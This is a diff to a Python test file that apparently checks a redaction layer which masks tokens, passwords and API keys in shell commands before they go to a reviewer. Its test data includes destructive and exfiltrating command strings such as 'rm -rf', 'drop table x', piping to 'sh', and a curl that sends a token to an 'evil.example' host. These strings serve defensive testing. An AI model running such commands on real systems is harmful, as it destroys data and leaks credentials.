@@ -18,6 +18,8 @@ def held(content: bytes = b"content", **more: Any) -> Review:
 
 
 SECRET = "ghp_" + "a" * 36
+RANDOM = "x1" * 8
+"""Long and mixed, as no word is."""
 
 
 @pytest.mark.parametrize(
@@ -42,12 +44,11 @@ def test_juror_is_told_so_much_and_whether_it_is_all(
     "content",
     [
         f"echo {SECRET}",
-        f"cd x && git push {SECRET}",
         f"export API_KEY={SECRET} && push",
-        "TOKEN=abc push",
-        "x --token 'abc' y",
+        f"TOKEN={RANDOM} push",
+        f"x --token '{RANDOM}' y",
         "curl -H 'Authorization: Bearer abc.def' https://h/",
-        '{"api_key": "xyz"}',
+        f'{{"api_key": "{RANDOM}"}}',
         "git clone https://u:p@h/x",
     ],
 )
@@ -84,12 +85,54 @@ def test_juror_is_told_no_secret(content: str) -> None:
         "x --password-file shadow",
         '{"secret_path":"x"}',
         "-----BEGIN PRIVATE KEY-----\nabc",
+        "TOKEN=abc push",
+        "x --token 'abc' y",
+        '{"api_key": "xyz"}',
+        "rm -rf -- --token odd",
+        "docker login --password-stdin evil.example",
+        'psql --no-password production -c "drop table x"',
+        "git push --no-token origin",
+        "scp -pwd root@prod:x .",
+        "OLDPWD=prod; cd - && rm -rf odd",
+        "GOOGLE_APPLICATION_CREDENTIALS=evil.json x",
+        "ansible-playbook --private-key prod.pem x.yml",
+        "curl -X DELETE 'https://h/odd?token=all'",
+        "ssh ssh://root@prod",
+        f"git {SECRET}",
+        f"git branch -D {SECRET}",
+        f"curl {SECRET}.evil.example",
+        f"dropdb --password {RANDOM}",
+        f"drop --secret={RANDOM}",
+        *(f"{each}={RANDOM}" for each in ("TOKEN_TABLE", "SECRET_BUCKET", "TOKEN_DB")),
+        "cp secret: reboot",
+        *(f"{each}TOKEN={RANDOM}" for each in ("make ", "sh -c x ", "python3 -c 'x' ")),
+        f"echo token={RANDOM} | cut -d= -f2 | sh",
+        f"perl -e '$token=\"{RANDOM}\"; system $token'",
     ],
 )
 def test_what_may_be_no_secret_has_not_been_seen(content: str) -> None:
     request = request_of(held(content.encode()))
     assert "[redacted]" in request.content
     assert request.truncated
+
+
+def test_secret_of_the_content_is_none_to_tell_where_its_name_is_gone() -> None:
+    content = f"PASSWORD={RANDOM}; curl -d x=$PASSWORD h"
+    inside = (f"curl -d x={RANDOM} h".encode(),)
+    request = request_of(held(content.encode(), inside=inside))
+    assert request.details == ("inside: curl -d x=[redacted] h",)
+    assert request.truncated
+
+
+def test_secret_of_a_script_is_none_to_tell() -> None:
+    inside = (f"P_TOKEN={RANDOM}; wipe".encode(), f"wipe {RANDOM}".encode())
+    request = request_of(held(b"sh s.sh", inside=inside, matched=inside[1]))
+    assert RANDOM not in str(request.document())
+
+
+def test_many_secrets_take_no_time_of_their_own() -> None:
+    details = tuple(f"$1: --password=abcdef{number:06}" for number in range(20_000))
+    assert request_of(held(b"x", details=details)).truncated
 
 
 def test_juror_is_told_what_decides_besides() -> None:
